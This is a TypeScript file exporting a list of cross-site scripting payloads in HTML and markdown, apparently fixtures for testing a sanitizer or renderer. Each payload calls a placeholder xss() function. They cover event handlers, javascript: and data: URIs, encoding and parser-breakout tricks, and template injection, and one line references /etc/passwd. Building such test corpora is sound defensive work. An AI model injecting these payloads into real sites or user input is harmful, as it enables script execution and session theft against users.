/** Texts that would run a script if a page took them for markup. Each calls `xss()`. */

const html = `<script>xss()</script>
<script src=data:text/javascript,xss()></script>
<script type=module>xss()</script>
<img src=x onerror=xss()>
<img/src=x/onerror=xss()>
<img src="x" onerror="xss()">
<IMG SRC=x OnErRoR=xss()>
<img src=x onerror=&#120;ss()>
<img srcset="x 1x" onerror=xss()>
<svg onload=xss()>
<svg><script>xss()</script></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>
<math><mi xlink:href="javascript:xss()">x</mi></math>
<body onload=xss()>
<iframe src="javascript:xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<object data="javascript:xss()"></object>
<embed src="javascript:xss()">
<details open ontoggle=xss()>x</details>
<video><source onerror=xss()></video>
<audio src=x onerror=xss()></audio>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()></select>
<textarea autofocus onfocus=xss()></textarea>
<button formaction="javascript:xss()">x</button>
<form action="javascript:xss()"><input type=submit></form>
<a href="javascript:xss()">x</a>
<a href="java&#9;script:xss()">x</a>
<a href="data:text/html,<script>xss()</script>">x</a>
<marquee onstart=xss()>x</marquee>
<link rel=stylesheet href="javascript:xss()">
<link rel=import href="data:text/html,<script>xss()</script>">
<meta http-equiv=refresh content="0;url=javascript:xss()">
<base href="javascript:xss()//">
<style>@import 'javascript:xss()';</style>
<div style="background:url(javascript:xss())">x</div>
<div style="width:expression(xss())">x</div>
<template><script>xss()</script></template>
<noscript><p title="</noscript><img src=x onerror=xss()>">
<p title="</p><script>xss()</script>">x</p>
<!--><img src=x onerror=xss()>-->
<![CDATA[<script>xss()</script>]]>
</textarea><script>xss()</script>
</title><script>xss()</script>
"><script>xss()</script>
'><img src=x onerror=xss()>
<<script>xss()//<</script>
<scr<script>ipt>xss()</scr</script>ipt>
&lt;script&gt;xss()&lt;/script&gt;
&#60;script&#62;xss()&#60;/script&#62;
\\u003cscript\\u003exss()\\u003c/script\\u003e
\${xss()} {{constructor.constructor('xss()')()}}`.split("\n");

const markdown = `[x](javascript:xss())
[x](JaVaScRiPt:xss())
[x](java\\script:xss())
[x](javascript&colon;xss())
[x](javascript&#58;xss())
[x](&#106;avascript:xss())
[x](<javascript:xss()>)
[x](data:text/html,<script>xss()</script>)
[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)
[x](vbscript:xss())
[x](file:///etc/passwd)
[x](blob:xss())
[x]( javascript:xss())
[x](\\u0001javascript:xss())
[x][ref]
![x](javascript:xss())
![x](data:image/svg+xml,<svg onload=xss()>)
![x" onerror="xss()](x)
![x](x"onerror="xss())
![x](/uploads/../x"onerror=xss())
<javascript:xss()>
<https://x" onmouseover="xss()>
https://example.org/"onmouseover="xss()
\`<img src=x onerror=xss()>\`
| <img src=x onerror=xss()> |
- [ ] <img src=x onerror=xss()>
> <script>xss()</script>
# <img src=x onerror=xss()>
**<img src=x onerror=xss()>**`.split("\n");

export const payloads: readonly string[] = [...html, ...markdown];
